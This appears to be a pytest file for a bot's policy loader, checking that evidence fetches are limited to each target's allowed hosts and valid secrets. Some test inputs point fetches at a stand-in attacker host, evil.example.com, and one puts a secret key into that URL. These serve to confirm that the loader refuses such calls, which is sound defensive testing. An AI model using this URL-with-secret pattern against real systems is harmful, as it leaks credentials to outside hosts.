"""Evidence that stages fetch: what a policy says of it is held against files, targets and secrets when it is loaded."""

from __future__ import annotations

from pathlib import Path

import pytest

from bot.adapters.configuration import load_configuration
from bot.adapters.secrets import EnvironmentSecrets
from bot.domain.configuration import Configuration
from bot.domain.errors import ConfigError
from bot.gates import load_gates
from playbooks.steps import load_steps

POLICY = """\
service: fraud
match: alert.labels.service == "fraud"
roles: {champion: [U0CHAMP]}
targets:
  production: {store: "https://files.example.com", metrics: "http://prom.example.com:9090",
    allow_hosts: [files.example.com, "prom.example.com:9090"]}
  staging: {store: "https://staging.example.com", allow_hosts: [staging.example.com]}
stages:
  - name: evaluation
    gates: [{use: metric, metric: f1, at_least: 0.90, evidence: pushed}]
    evidence:
      - {name: evaluation, file: eval.json}
      - name: drift
        http: {url: "{{ target.store }}/drift/{{ release.candidate }}.csv", headers: {X-Key: "{{ secret('KEY') }}"}}
      - {name: load, prometheus: {prometheus: "{{ target.metrics }}", query: up}}
  - name: staging
    evidence:
      - {name: evaluation, object: {url: "https://staging.example.com/e.json"}}
"""


def load(folder: Path, policy: str, secrets: EnvironmentSecrets | None = None) -> Configuration:
    for name, text in {"policies/fraud.yaml": policy, "evidence/eval.json": "{}"}.items():
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8")
    (folder / "playbooks").mkdir(exist_ok=True)
    return load_configuration(folder, steps=load_steps(), gates=load_gates(), shipped=folder / "none", secrets=secrets)


def faults_of(folder: Path, policy: str) -> list[str]:
    with pytest.raises(ConfigError) as caught:
        load(folder, policy)
    return [str(fault).removeprefix(f"{folder}/") for fault in caught.value.faults]


def test_evidence_that_fits_loads_and_what_a_gate_reads_may_be_pushed(tmp_path: Path) -> None:
    assert load(tmp_path, POLICY).warnings == ()


BAD = [
    ("eval.json}", "evil.json}", 12, "there is no file evidence/evil.json in the configuration"),
    ("{name: load,", "{name: drift,", 15, "stage 'evaluation' fetches 'drift' 2 times"),
    ("{{ release.candidate }}", "{{ relase.candidate }}", 14, "unknown variable 'relase'; did you mean 'release'?"),
    ("{{ release.candidate }}", "{{ steps.a.b }}", 14, "steps.a cannot be read here"),
    ("secret('KEY')", "secret('ANDON_KEY')", 14, "'ANDON_KEY' cannot be the name of a secret"),
    ("https://staging.example.com/e.json", "https://files.example.com/e.json", 18,
     "evidence 'evaluation' of stage 'staging' calls https://files.example.com"),
    ('allow_hosts: [files.example.com, "prom.example.com:9090"]', "allow_hosts: [files.example.com]", 6,
     "evidence 'load' of stage 'evaluation' calls http://prom.example.com:9090"),
    ("{{ target.store }}/drift", "https://evil.example.com/drift", 14,
     "evidence 'drift' of stage 'evaluation' calls https://evil.example.com"),
    ("- name: staging", "- name: staging\n    environment: production", 19,
     "evidence 'evaluation' of stage 'staging' calls https://staging.example.com"),
]  # fmt: skip


@pytest.mark.parametrize(("old", "new", "line", "part"), BAD)
def test_evidence_that_cannot_be_fetched_is_refused_at_its_line(
    tmp_path: Path, old: str, new: str, line: int, part: str
) -> None:
    assert POLICY.count(old) == 1, old
    found = faults_of(tmp_path, POLICY.replace(old, new))
    assert len(found) == 1, found
    assert found[0].startswith(f"policies/fraud.yaml:{line}: ")
    assert part in found[0]


def test_an_address_out_of_a_secret_is_judged_when_it_is_known(tmp_path: Path) -> None:
    presigned = POLICY.replace("https://staging.example.com/e.json", "{{ secret('PRESIGNED') }}")
    assert load(tmp_path, presigned).warnings == ()
    (found,) = faults_of(
        tmp_path, POLICY.replace("https://staging.example.com/e.json", "https://evil.example.com/{{ secret('KEY') }}")
    )
    assert "evidence 'evaluation' of stage 'staging' calls https://evil.example.com" in found


def test_evidence_of_an_environment_without_a_target_is_refused(tmp_path: Path) -> None:
    staging = next(line for line in POLICY.splitlines() if line.startswith("  staging:"))
    (found,) = faults_of(tmp_path, POLICY.replace(f"{staging}\n", ""))
    asks = "evidence 'evaluation' of stage 'staging' makes calls in the environment 'staging'"
    assert found == f"policies/fraud.yaml:17: {asks}, which is none of the targets; there are: production"


def test_a_secret_that_is_not_set_and_an_address_that_a_target_lacks_are_warned_of(tmp_path: Path) -> None:
    secrets = EnvironmentSecrets({}, folder=tmp_path)
    text = POLICY.replace("{{ target.metrics }}", "{{ target.monitoring }}")
    warnings = [str(one).removeprefix(f"{tmp_path}/") for one in load(tmp_path, text, secrets).warnings]
    assert sorted(warnings) == [
        "policies/fraud.yaml:14: the secret KEY is not set",
        (
            "policies/fraud.yaml:6: evidence 'load' of stage 'evaluation' reads 'monitoring', which the target "
            "'production' does not have"
        ),
    ]
